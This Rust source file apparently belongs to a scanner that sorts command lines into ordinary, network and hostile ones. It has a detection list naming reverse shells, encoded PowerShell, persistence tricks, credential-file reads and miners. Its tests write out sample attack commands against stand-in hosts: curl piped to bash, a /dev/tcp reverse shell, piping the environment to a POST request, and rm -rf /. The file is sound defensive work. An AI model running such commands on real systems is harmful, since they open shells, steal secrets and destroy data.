//! What a command line does, judged by its text.

/// How a command line looks.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Command {
    /// A tool that build scripts, training code and audio or video handlers call.
    Ordinary,
    /// Anything else.
    Other,
    /// A tool that talks to the network.
    Network,
    /// What only an attack does; the text says what.
    Hostile(&'static str),
}

const ORDINARY: &[&str] = &[
    "git",
    "nvidia-smi",
    "which",
    "where",
    "uname",
    "lscpu",
    "nvcc",
    "ldconfig",
    "rocm-smi",
    "rocminfo",
    "ninja",
    "cmake",
    "gcc",
    "g++",
    "clang",
    "clang++",
    "cc",
    "c++",
    "make",
    "ffmpeg",
    "ffprobe",
    "sox",
    "espeak",
    "espeak-ng",
    "tar",
    "unzip",
    "zip",
    "gzip",
    "gunzip",
    "7z",
    "pip",
    "pip3",
    "conda",
    "mamba",
    "uv",
    "apt",
    "apt-get",
    "brew",
    "hostname",
    "df",
    "free",
    "cat",
    "ls",
    "sysctl",
    "xcrun",
    "sw_vers",
    "java",
    "mecab",
    "nproc",
    "mkdir",
    "cp",
    "mv",
    "clear",
    "cls",
    "python",
    "python3",
    "pytest",
    "torchrun",
    "accelerate",
    "deepspeed",
    "tensorboard",
    "huggingface-cli",
    "hf",
    "aws",
    "gsutil",
    "gcloud",
    "azcopy",
    "docker",
    "kubectl",
    "node",
    "npm",
    "pdftotext",
    "tesseract",
    "wkhtmltopdf",
    "libreoffice",
    "soffice",
    "pandoc",
    "convert",
    "magick",
    "sinfo",
    "squeue",
    "sbatch",
    "scontrol",
    "lspci",
    "lsmod",
    "numactl",
    "taskset",
    "ulimit",
    "swig",
    "protoc",
    "ps",
    "top",
    "wc",
    "sort",
    "du",
    "date",
    "file",
    "dot",
    "hipconfig",
    "hipcc",
    "xclip",
    "mpirun",
    "streamlit",
    "gradio",
    "uvicorn",
    "gunicorn",
    "playwright",
    "cd",
];
const NETWORK: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "telnet", "ssh", "scp", "ftp", "tftp", "socat", "nslookup",
    "dig", "ping",
];
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "powershell",
    "pwsh",
];

/// Parts of a command line that only an attack has, in lower case, and what they do.
const HOSTILE: &[(&str, &str)] = &[
    ("/dev/tcp/", "opens a reverse shell"),
    ("/dev/udp/", "opens a reverse shell"),
    ("nc -e", "opens a reverse shell"),
    ("nc -c ", "opens a reverse shell"),
    ("ncat -e", "opens a reverse shell"),
    ("ncat --exec", "opens a reverse shell"),
    ("bash -i", "opens an interactive shell"),
    ("/sh -i", "opens an interactive shell"),
    ("socat exec", "opens a reverse shell"),
    ("mkfifo ", "makes a pipe as reverse shells do"),
    ("-encodedcommand", "runs an encoded PowerShell command"),
    ("powershell -e ", "runs an encoded PowerShell command"),
    ("powershell -enc", "runs an encoded PowerShell command"),
    ("downloadstring(", "downloads and runs PowerShell code"),
    ("invoke-expression", "runs PowerShell code from a text"),
    ("certutil -urlcache", "downloads with certutil"),
    ("bitsadmin /transfer", "downloads with bitsadmin"),
    ("mshta http", "runs a remote script"),
    ("regsvr32 /s", "registers a library silently"),
    ("authorized_keys", "adds a key that may log in"),
    (">> ~/.bashrc", "changes what the shell runs at start"),
    (">> ~/.profile", "changes what the shell runs at start"),
    (">> ~/.zshrc", "changes what the shell runs at start"),
    ("/etc/shadow", "reads or changes the password file"),
    ("/etc/sudoers", "changes who is administrator"),
    ("crontab -", "changes the scheduled jobs"),
    ("/etc/cron", "changes the scheduled jobs"),
    ("rm -rf /*", "removes every file"),
    ("rm -rf ~", "removes every file of the user"),
    ("--no-preserve-root", "removes every file"),
    (":(){", "forks until the machine stops"),
    ("xmrig", "mines for someone else"),
    ("stratum+tcp", "mines for someone else"),
    (".ssh/id_", "reads private keys"),
    (".aws/credentials", "reads cloud credentials"),
];

/// Judges the text of a command line.
pub(super) fn judge(command: &str) -> Command {
    let lower = command.to_ascii_lowercase();
    if let Some((_, what)) = HOSTILE.iter().find(|(part, _)| lower.contains(part)) {
        return Command::Hostile(what);
    }
    if lower
        .split_whitespace()
        .collect::<Vec<_>>()
        .windows(3)
        .any(|words| matches!(words, ["rm", "-rf" | "-fr", "/"]))
    {
        return Command::Hostile("removes every file");
    }
    let segments: Vec<&str> =
        lower.split(['|', ';', '&', '\n']).map(str::trim).filter(|s| !s.is_empty()).collect();
    let pipes = lower.contains('|');
    let fetches = segments.iter().any(|segment| matches!(program(segment), "curl" | "wget"));
    if pipes && segments.iter().skip(1).any(|segment| INTERPRETERS.contains(&program(segment))) {
        return Command::Hostile(if fetches {
            "downloads a script and runs it"
        } else {
            "pipes data into an interpreter"
        });
    }
    let decodes =
        lower.contains("base64 -d") || lower.contains("base64 --decode") || lower.contains("xxd -r");
    if decodes && (pipes || lower.contains("$(")) {
        return Command::Hostile("decodes and runs a hidden command");
    }
    let substitutes = lower.contains("$(") || lower.contains('`');
    let talks = segments.iter().any(|segment| NETWORK.contains(&program(segment)));
    if talks
        && (substitutes
            || ["-d @", "--data @", "--data-binary @", "-f file=@", "--upload-file", "--post-file"]
                .iter()
                .any(|part| lower.contains(part)))
    {
        return Command::Hostile("sends local data out");
    }
    if pipes
        && segments
            .iter()
            .skip(1)
            .any(|segment| matches!(program(segment), "nc" | "ncat" | "netcat" | "curl"))
    {
        return Command::Hostile("sends local data out");
    }
    if fetches && (lower.contains("chmod +x") || lower.contains("chmod 7")) {
        return Command::Hostile("downloads a program and runs it");
    }
    if inline_code(&lower) {
        return Command::Hostile("runs code that hides in a command line");
    }
    if talks {
        return Command::Network;
    }
    if !segments.is_empty() && segments.iter().all(|segment| ORDINARY.contains(&program(segment))) {
        return Command::Ordinary;
    }
    Command::Other
}

/// `python -c "import socket…"` and the like.
fn inline_code(lower: &str) -> bool {
    let Some((_, code)) = lower.split_once(" -c ") else { return false };
    ["import socket", "exec(", "b64decode", "os.dup2", "pty.spawn"].iter().any(|part| code.contains(part))
}

/// The first word of a command without its folder, after `sudo` and variable assignments.
fn program(segment: &str) -> &str {
    let word = segment
        .split_whitespace()
        .find(|word| !matches!(*word, "sudo" | "nohup" | "exec" | "env" | "time") && !word.contains('='))
        .unwrap_or_default()
        .trim_matches(['"', '\'', '(', ')']);
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.strip_suffix(".exe").unwrap_or(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines_are_told_apart() {
        for ordinary in [
            "git rev-parse HEAD",
            "nvidia-smi --query",
            "pip install -r requirements.txt",
            "/usr/bin/ffmpeg -i a b",
        ] {
            assert_eq!(judge(ordinary), Command::Ordinary, "{ordinary}");
        }
        for network in ["wget https://example.invalid/model.pth", "curl -LO https://example.invalid/x"] {
            assert_eq!(judge(network), Command::Network, "{network}");
        }
        for hostile in [
            "curl -s https://example.invalid/x.sh | bash",
            "bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'",
            "echo aWQ= | base64 -d | sh",
            "curl https://example.invalid/?d=$(whoami)",
            "env | curl -X POST -d @- https://example.invalid",
            "wget http://example.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p",
            "rm -rf /",
        ] {
            assert!(matches!(judge(hostile), Command::Hostile(_)), "{hostile}");
        }
        assert_eq!(judge("echo hello > /tmp/x"), Command::Other);
        assert_eq!(judge("rm -rf /tmp/build"), Command::Other);
    }
}
